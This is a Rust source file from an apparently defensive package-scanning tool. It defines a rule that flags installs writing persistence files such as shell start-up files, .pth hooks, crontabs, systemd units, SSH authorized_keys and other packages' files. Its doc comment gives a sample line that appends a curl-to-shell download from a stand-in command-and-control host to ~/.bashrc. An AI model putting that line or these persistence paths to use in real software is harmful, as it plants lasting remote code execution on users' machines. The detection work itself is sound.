use ossprey_model::{Category, Finding, Severity};

use super::events::{
    PackageProcesses, behaviour_finding, file_event, home_rel, ok_execs, other_package_dir, phases,
    process_event, program, written,
};
use super::{BehaviourInput, BehaviourRule, behaviour_rule};

/// Shell start-up files in a home directory.
const SHELL_RC: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
    ".config/fish/config.fish",
];

/// Tool configuration in a home directory that redirects installs or carries tokens.
const TOOL_CONFIG: &[&str] = &[
    ".npmrc",
    ".yarnrc",
    ".pypirc",
    ".pip/pip.conf",
    ".config/pip/pip.conf",
    ".gitconfig",
    ".condarc",
];

/// What kind of persistence writing `path` is, if any.
pub(crate) fn persistence_kind(path: &str, own: Option<&str>) -> Option<String> {
    if let Some(rel) = home_rel(path) {
        if SHELL_RC.contains(&rel) {
            return Some("a shell start-up file".into());
        }
        if rel == ".ssh/authorized_keys" || rel == ".ssh/authorized_keys2" {
            return Some("SSH authorized keys".into());
        }
        if rel.starts_with(".config/systemd/user/") {
            return Some("a systemd user unit".into());
        }
        if rel.starts_with(".config/autostart/") {
            return Some("a desktop autostart entry".into());
        }
        if TOOL_CONFIG.contains(&rel) {
            return Some("package-manager or git configuration".into());
        }
    }
    if path.starts_with("/etc/profile.d/")
        || path == "/etc/profile"
        || path == "/etc/bash.bashrc"
        || path.starts_with("/etc/systemd/")
        || path.starts_with("/etc/init.d/")
        || path.starts_with("/etc/xdg/autostart/")
        || path == "/etc/ld.so.preload"
    {
        return Some("system start-up configuration".into());
    }
    if path.starts_with("/var/spool/cron/")
        || path.starts_with("/etc/cron")
        || path == "/etc/crontab"
    {
        return Some("a crontab".into());
    }
    if path.contains("/.git/hooks/") {
        return Some("a git hook".into());
    }
    if path.contains("-packages/") {
        let file = path.rsplit('/').next().unwrap_or(path);
        if file.ends_with(".pth") {
            return Some("a .pth start-up hook in site-packages".into());
        }
        if file == "sitecustomize.py" || file == "usercustomize.py" {
            return Some(format!("Python's {file}"));
        }
    }
    other_package_dir(path, own).map(|other| format!("another package's files ({other})"))
}

/// ## What it does
/// Reports files the package's own processes wrote (or renamed into place) that make
/// code run again later: shell start-up files (`~/.bashrc`, `~/.profile`, …), `.pth`
/// files and `sitecustomize.py` in site-packages, crontabs, systemd user units,
/// autostart entries, git hooks, SSH `authorized_keys`, package-manager configuration
/// (`~/.npmrc`, `pip.conf`) and the files of *other* installed packages. It also
/// reports a `crontab FILE` run. The installer writing the package's own files
/// (including a `.pth` the package ships, which static rules judge) does not count.
///
/// ## Why is this bad?
/// Each of these runs code in every later shell, Python process, login, commit or
/// boot, or changes what later installs fetch: the package survives its own removal.
/// Rewriting another package's files hides a payload where nobody looks.
///
/// ## Example
/// ```python
/// with open(os.path.expanduser("~/.bashrc"), "a") as f:
///     f.write("curl -s http://c2.example/x | sh\n")
/// ```
#[derive(Debug)]
pub struct PersistenceWrite;

behaviour_rule!(
    PersistenceWrite,
    "DYN-PERSISTENCE-WRITE",
    Category::PERSISTENCE,
    "the package wrote a start-up file, .pth hook, crontab, unit, git hook or another package's files"
);

impl BehaviourRule for PersistenceWrite {
    fn check_behaviour(&self, input: &BehaviourInput<'_>, out: &mut Vec<Finding>) {
        let own_name = input.name();
        for (key, phase) in phases(input.dynamic) {
            let own = PackageProcesses::of(key, phase);
            for f in &phase.files {
                if !written(f) || !own.touched(f) {
                    continue;
                }
                let Some(kind) = persistence_kind(&f.path, own_name) else {
                    continue;
                };
                out.push(behaviour_finding(
                    self,
                    Severity::High,
                    format!("{key} phase wrote {kind}: {}", f.path),
                    key,
                    "file",
                    file_event(f),
                    &format!("wrote {} (pids {:?})", f.path, f.pids),
                ));
            }
            for p in own.processes(phase) {
                if let Some(e) = ok_execs(p).find(|e| {
                    program(e) == "crontab"
                        && e.argv
                            .get(1)
                            .is_some_and(|a| !a.starts_with('-') || a == "-")
                }) {
                    out.push(behaviour_finding(
                        self,
                        Severity::High,
                        format!("{key} phase installed a crontab"),
                        key,
                        "process",
                        process_event(p),
                        &e.argv.join(" "),
                    ));
                }
            }
        }
    }
}
